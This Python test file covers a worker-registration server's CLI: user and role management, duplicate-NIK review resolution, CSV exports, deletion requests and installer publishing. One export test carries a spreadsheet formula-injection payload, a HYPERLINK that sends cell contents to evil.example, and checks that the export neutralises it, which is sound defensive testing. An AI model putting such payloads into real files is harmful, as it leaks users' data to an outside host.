"""perisai-server CLI, through main([...]) and once as a real subprocess."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import subprocess
import sys

import pytest
from sqlmodel import Session, select

from central_server.cli import main
from central_server.demo import DEMO_AGENT, DEMO_PASSWORD
from central_server.models import Enrollment, Participant, ReviewItem, ServerUser
from central_server.settings import REPO_ROOT
from tests.helpers.samples import BONTORANNU, MARISO, make_op, payment_payload, worker_payload

from .helpers import assert_error


def run(db, *args, stdin_text=None):
    out = io.StringIO()
    code = main(["--db", db, *args], stdin=io.StringIO(stdin_text) if stdin_text is not None else None, stdout=out)
    return code, out.getvalue()


def test_users_lifecycle(central, capsys):
    db = central.settings.database_url
    assert run(db, "init-db")[0] == 0
    assert run(db, "add-wadah", "Koperasi Sipakatau")[0] == 0
    code, out = run(db, "add-user", "Agen.Tiga", "--role", "agent", "--full-name", "Agen Tiga", "--wadah",
                    "Koperasi Sipakatau", "--kecamatan", "73.71.10", "--kelurahan", "7371101001",
                    "--password-stdin", stdin_text="kata-sandi-1\n")
    assert code == 0 and "agen.tiga" in out
    with Session(central.engine) as s:
        user = s.exec(select(ServerUser).where(ServerUser.username == "agen.tiga")).one()
        assert (user.kecamatan_code, user.kelurahan_code) == ("7371100", "73711001001")
        assert "kata-sandi-1" not in user.password_hash
    agent = central.login("agen.tiga", "device-0003", password="kata-sandi-1")
    code, out = run(db, "list-users")
    assert code == 0
    assert "agen.tiga\tagent\tAgen Tiga\tKoperasi Sipakatau\t7371100\t73711001001\tactive\tdevices=1\t-" in out
    code, out = run(db, "set-role", "agen.tiga", "--role", "supervisor", "--kecamatan", "7371100")
    assert code == 0 and "agen.tiga (supervisor, 7371100)" in out
    assert "agen.tiga\tsupervisor\tAgen Tiga\tKoperasi Sipakatau\t7371100\t-\tactive" in run(db, "list-users")[1]
    assert run(db, "set-role", "agen.tiga", "--role", "agent")[0] == 2  # an agent needs a kecamatan
    assert run(db, "set-role", "agen.tiga", "--role", "agent", "--kecamatan", "7371100",
               "--kelurahan", "73711001001")[0] == 0
    assert run(db, "reset-password", "agen.tiga", "--password-stdin", stdin_text="kata-sandi-2\n")[0] == 0
    assert_error(central.http.post("/v1/auth/login", json={"username": "agen.tiga", "password": "kata-sandi-1",
                                                           "device_id": "device-0003"}), 401, "invalid_credentials")
    central.login("agen.tiga", "device-0003", password="kata-sandi-2")
    code, out = run(db, "revoke-device", "device-0003", "--user", "agen.tiga")
    assert code == 0 and "reset-password" in out and "agen.tiga" in out
    assert "\tnew-password-needed" in run(db, "list-users")[1]
    assert_error(agent.pull(0), 401, "device_revoked")
    with Session(central.engine) as s:
        assert s.exec(select(Enrollment)).one().revoked_at is not None
    # refusals are bilingual and exit 2
    assert run(db, "revoke-device", "device-0003")[0] == 2
    assert run(db, "add-user", "x.y", "--full-name", "X", "--kecamatan", "7399990", "--password", "panjang-123")[0] == 2
    assert run(db, "add-user", "agen.tiga", "--full-name", "X", "--kecamatan", "7371100", "--password",
               "panjang-123")[0] == 2
    err = capsys.readouterr().err
    assert "Pengguna sudah ada / User already exists" in err and "Kecamatan tidak dikenal / Unknown kecamatan" in err


def test_review_export_and_deletion(central, tmp_path):
    db = central.settings.database_url
    central.add_user("agen.satu")
    agent = central.login("agen.satu")
    w = worker_payload()
    other = worker_payload(full_name="Orang Lain", nik=w["nik"])
    pay = payment_payload(w["id"], ["2026-03"])
    agent.push([make_op("worker.register", w, 1), make_op("worker.register", other, 2),
                make_op("payment.collect", pay, 3)])
    code, out = run(db, "review-list")
    assert code == 0
    review_id, kind, pid, other_id, _ = out.strip().split("\t")
    assert (kind, pid, other_id) == ("nik_conflict", other["id"], w["id"])
    with pytest.raises(SystemExit):  # no reason: argparse refuses (exit status 2)
        run(db, "review-resolve", review_id, "--as", "distinct")
    assert run(db, "review-resolve", review_id, "--as", "distinct", "--reason", "  ")[0] == 2
    assert run(db, "review-resolve", review_id, "--as", "distinct", "--reason", "dua orang berbeda, KTP dicek")[0] == 0
    assert run(db, "review-list")[1] == ""
    changes, cursor = agent.pull_all()
    assert len({c["data"]["kpj"] for c in changes if c["entity"] == "worker"}) == 2  # now has its own KPJ

    out_file = tmp_path / "participants.csv"
    assert run(db, "export", "participants", "--out", str(out_file))[0] == 0
    rows = list(csv.DictReader(io.StringIO(out_file.read_text())))
    assert {r["id"] for r in rows} == {w["id"], other["id"]}
    assert all(len(r["kpj"]) == 11 for r in rows)
    pay_file = tmp_path / "payments.csv"
    assert run(db, "export", "payments", "--out", str(pay_file))[0] == 0
    (prow,) = list(csv.DictReader(io.StringIO(pay_file.read_text())))
    assert prow["receipt_no"] == pay["receipt_no"] and int(prow["amount"]) == pay["amount"]
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.endswith(".tmp")) == []

    dr = {"id": w["id"], "reason": "permintaan peserta", "requested_at": "2026-03-02T00:00:00+00:00", "by": "u1"}
    agent.push([make_op("worker.deletion_request", dr, 4)])
    code, out = run(db, "deletion-list")
    assert w["id"] in out
    assert run(db, "delete-participant", w["id"])[0] == 0
    more, _ = agent.pull_all(cursor)
    assert [(c["id"], c["op"]) for c in more] == [(w["id"], "delete")]
    assert run(db, "deletion-list")[1] == ""


def test_seed_demo_is_idempotent_and_pullable(central):
    db = central.settings.database_url
    code, out = run(db, "seed-demo")
    assert code == 0 and "Tamalate" in out
    assert run(db, "seed-demo")[0] == 0
    agent = central.login(DEMO_AGENT, password=DEMO_PASSWORD)
    assert agent.tokens["user"]["kecamatan_code"] == "7371100"
    changes, _ = agent.pull_all()
    workers = [c for c in changes if c["entity"] == "worker"]
    payments = [c for c in changes if c["entity"] == "payment"]
    assert len(workers) == 3 and len(payments) == 1
    assert {w["data"]["kpj"] for w in workers} and all(len(w["data"]["kpj"]) == 11 for w in workers)
    assert [w["data"]["paid_through"] for w in workers].count("2026-02") == 1


def test_set_app_version_is_announced(central):
    db = central.settings.database_url
    assert run(db, "set-app-version", "0.4.0", "--url", "https://example.invalid/perisai-0.4.0.exe")[0] == 0
    bundle = central.http.get("/v1/reference").json()
    assert bundle["latest_app_version"] == "0.4.0"


def test_set_app_version_publishes_the_installers_size_and_sha256(central, tmp_path, capsys):
    from sync.updates import parse_release

    installer = tmp_path / "PerisaiAgent-0.4.0-win64-setup.exe"
    installer.write_bytes(b"MZ" + b"\x90" * 5000)
    db = central.settings.database_url
    url = "https://unduh.example/PerisaiAgent-0.4.0-win64-setup.exe"
    assert run(db, "set-app-version", "0.4.0", "--url", url, "--installer", str(installer))[0] == 0
    bundle = central.http.get("/v1/reference").json()
    release = parse_release(bundle["latest_app_version"], bundle["download_url"])
    assert (release.url, release.size) == (url, 5002)
    assert release.sha256 == hashlib.sha256(installer.read_bytes()).hexdigest()
    capsys.readouterr()
    assert run(db, "set-app-version", "0.4.0", "--url", "http://unduh.example/x.exe",
               "--installer", str(installer))[0] == 2
    assert "HTTPS" in capsys.readouterr().err
    assert run(db, "set-app-version", "0.4.0", "--url", url, "--installer", str(tmp_path / "none.exe"))[0] == 2
    assert "Cannot read the installer" in capsys.readouterr().err


def test_cli_as_a_subprocess(tmp_path):
    db = f"sqlite:///{tmp_path / 'cli.db'}"
    cmd = [sys.executable, "-m", "central_server.cli", "--db", db]
    add = subprocess.run(cmd + ["add-user", "kota.admin", "--role", "admin", "--full-name", "Admin Kota",
                                "--password-stdin"], input="rahasia-admin\n", capture_output=True, text=True,
                         cwd=REPO_ROOT, timeout=60)
    assert add.returncode == 0, add.stderr
    listed = subprocess.run(cmd + ["list-users"], capture_output=True, text=True, cwd=REPO_ROOT, timeout=60)
    assert "kota.admin\tadmin\tAdmin Kota" in listed.stdout
    bad = subprocess.run(cmd + ["reset-password", "nobody", "--password-stdin"], input="rahasia-baru\n",
                         capture_output=True, text=True, cwd=REPO_ROOT, timeout=60)
    assert bad.returncode == 2 and "Pengguna tidak ditemukan / No such user" in bad.stderr


def test_review_resolved_as_alias_moves_payments_to_the_canonical(central):
    db = central.settings.database_url
    central.add_user("agen.satu")
    agent = central.login("agen.satu")
    w = worker_payload(full_name="Daeng Sikki")
    typo = worker_payload(full_name="Daeng Siki", nik=w["nik"])  # a typo in the name
    pay = payment_payload(typo["id"], ["2026-05"])
    agent.push([make_op("worker.register", w, 1), make_op("worker.register", typo, 2),
                make_op("payment.collect", pay, 3)])
    _, cursor = agent.pull_all()
    review_id = run(db, "review-list")[1].split("\t")[0]
    assert run(db, "review-resolve", review_id, "--as", "alias", "--by", "supervisor.satu",
               "--reason", "salah ketik nama")[0] == 0
    changes, _ = agent.pull_all(cursor)
    got = {c["id"]: c["data"] for c in changes}
    assert got[typo["id"]]["alias_of"] == w["id"] and got[typo["id"]]["review_state"] == "ok"
    assert got[typo["id"]]["kpj"] == got[w["id"]]["kpj"]
    assert got[w["id"]]["paid_through"] == "2026-05"
    assert got[pay["id"]]["participant_id"] == w["id"]
    assert run(db, "review-resolve", review_id, "--as", "distinct", "--reason", "x")[0] == 2  # already settled


def test_a_case_from_another_area_holds_both_sides_and_the_decision(central):
    """A Mariso agent meets a person registered in Tamalate: told nothing, the centre gets
    the case with what each side holds, decides, and only then the agent learns the KPJ."""
    db = central.settings.database_url
    tamalate_id = central.add_user("agen.tamalate")
    mariso_id = central.add_user("agen.mariso", kecamatan=MARISO)
    tamalate, mariso = central.login("agen.tamalate"), central.login("agen.mariso", "laptop-mariso")
    person = worker_payload(full_name="Daeng Ngai")
    kpj = tamalate.push([make_op("worker.register", person, 1)])["results"][0]["assigned"]["kpj"]
    met = dict(person, id="w-mariso-1", kecamatan_code=MARISO, kelurahan_code=BONTORANNU, address="Jl. Baru 1")
    answer = mariso.push([make_op("worker.register", met, 1)])["results"][0]
    assert answer["status"] == "needs_review" and "kpj" not in answer["assigned"]
    with Session(central.engine) as s:
        case = s.exec(select(ReviewItem)).one()
        assert (case.kind, case.status, case.participant_id, case.other_participant_id) == (
            "nik_elsewhere", "open", met["id"], person["id"])
        assert (case.sent_by, case.sent_from, case.other_registered_by) == (mariso_id, "laptop-mariso", tamalate_id)
        assert json.loads(case.sent) == met and json.loads(case.other_data)["address"] == person["address"]
    _, cursor = mariso.pull_all()
    assert run(db, "review-resolve", str(case.id), "--as", "alias", "--by", "kota.admin",
               "--reason", "orang yang sama, pindah ke Mariso")[0] == 0
    with Session(central.engine) as s:
        case = s.get(ReviewItem, case.id)
        assert (case.status, case.resolution, case.resolved_by, case.reason) == (
            "resolved", "alias", "kota.admin", "orang yang sama, pindah ke Mariso")
        assert case.resolved_at is not None
    changes, _ = mariso.pull_all(cursor)
    [mine] = [c["data"] for c in changes if c["id"] == met["id"]]
    assert mine["kpj"] == kpj and mine["alias_of"] == person["id"]


def test_init_db_creates_only_server_tables_even_with_client_models_loaded(tmp_path):
    import sqlalchemy

    import agent_app.store.models  # noqa: F401  (the client's tables, on SQLModel's own metadata)
    from central_server.models import ServerModel

    db = f"sqlite:///{tmp_path / 'only.db'}"
    assert run(db, "init-db")[0] == 0
    engine = sqlalchemy.create_engine(db)
    try:
        tables = set(sqlalchemy.inspect(engine).get_table_names())
    finally:
        engine.dispose()
    assert tables == set(ServerModel.metadata.tables) | {"alembic_version"}
    assert "worker" not in tables and "outbox" not in tables


def test_export_cells_never_run_as_formulas(central, tmp_path):
    """A pushed name "=HYPERLINK(...)" and an older record's NUL byte were written as is."""
    db = central.settings.database_url
    central.add_user("agen.satu")
    agent = central.login("agen.satu")
    formula = '=HYPERLINK("http://evil.example/?d="&A1,"Klik")'
    w = worker_payload(full_name=formula)
    old = worker_payload(serial=2, full_name="Lama")
    agent.push([make_op("worker.register", w, 1), make_op("worker.register", old, 2)])
    with Session(central.engine) as s:  # written before names were checked at the centre
        # (a NUL byte too on SQLite; PostgreSQL never stores one)
        nul = "\x00" if central.engine.dialect.name == "sqlite" else "\x07"
        s.get(Participant, old["id"]).full_name = f"Lama{nul}\r\n@SUM(1)"
        s.commit()
    out_file = tmp_path / "participants.csv"
    assert run(db, "export", "participants", "--out", str(out_file))[0] == 0
    names = {r["id"]: r["full_name"] for r in csv.DictReader(io.StringIO(out_file.read_text(encoding="utf-8")))}
    assert names[w["id"]] == "'" + formula
    assert names[old["id"]] == "Lama\ufffd\ufffd\ufffd@SUM(1)"
    assert nul not in out_file.read_text(encoding="utf-8")
